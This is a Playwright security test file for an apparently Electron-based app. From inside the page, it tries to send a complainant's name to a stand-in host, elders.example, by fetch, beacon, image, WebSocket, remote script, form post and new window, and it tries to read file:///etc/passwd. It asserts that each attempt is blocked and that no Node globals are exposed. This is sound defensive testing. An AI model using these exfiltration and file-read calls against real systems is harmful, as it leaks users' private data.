import { expect, test } from './fixture.ts'
import { setUp } from './steps.ts'

test.setTimeout(120_000)

const elsewhere = 'https://elders.example'

test.describe('EW-4.4: a page that tries to send something out', () => {
  test.use({
    expectedProblems: ['elders.example', 'Content Security Policy', 'Refused to', 'violates', 'Failed to load']
  })

  test('every way out is closed, and the office stays where it is', async ({ app, page }) => {
    await setUp(page)
    const tried = await page.evaluate(async (address) => {
      const outcome = (task: Promise<unknown>): Promise<string> =>
        task.then(
          () => 'went out',
          () => 'blocked'
        )
      const image = outcome(
        new Promise((resolve, reject) => {
          const picture = new Image()
          picture.onload = resolve
          picture.onerror = reject
          picture.src = `${address}/beeld.png?klager=Vos`
        })
      )
      const socket = outcome(
        new Promise((resolve, reject) => {
          const opened = new WebSocket('wss://elders.example/klacht')
          opened.onopen = resolve
          opened.onerror = reject
          opened.onclose = reject
        })
      )
      const script = outcome(
        new Promise((resolve, reject) => {
          const element = document.createElement('script')
          element.onload = resolve
          element.onerror = reject
          element.src = `${address}/kwaad.js`
          document.head.append(element)
        })
      )
      const inline = document.createElement('script')
      inline.textContent = 'globalThis.ingevoegd = true'
      document.head.append(inline)
      const form = document.createElement('form')
      form.action = `${address}/formulier`
      form.method = 'post'
      document.body.append(form)
      form.submit()
      return {
        fetch: await outcome(fetch(`${address}/klacht`, { method: 'POST', body: 'Vos' })),
        file: await outcome(fetch('file:///etc/passwd')),
        beacon: navigator.sendBeacon(`${address}/baken`, 'Vos') ? 'queued' : 'blocked',
        image: await image,
        socket: await socket,
        script: await script,
        inline: 'ingevoegd' in globalThis ? 'ran' : 'blocked',
        opened: window.open(`${address}/venster`) === null ? 'blocked' : 'opened'
      }
    }, elsewhere)
    expect(tried).toMatchObject({
      fetch: 'blocked',
      file: 'blocked',
      image: 'blocked',
      socket: 'blocked',
      script: 'blocked',
      inline: 'blocked'
    })
    await page
      .evaluate((address) => {
        location.href = `${address}/weg`
      }, elsewhere)
      .catch(() => undefined)
    await page.getByRole('link', { name: 'Register', exact: true }).click()
    await expect(page.getByRole('heading', { level: 1, name: /Register/ })).toBeVisible()
    expect(page.url()).not.toContain('elders')
    expect(page.context().pages()).toHaveLength(1)
    expect(app.seen.outgoing).toEqual([])
  })

  test('the page has no way into the computer', async ({ page }) => {
    await setUp(page)
    const found = await page.evaluate(() =>
      ['require', 'process', 'module', 'Buffer', 'electron', 'ipcRenderer'].filter((name) => name in globalThis)
    )
    expect(found).toEqual([])
  })
})
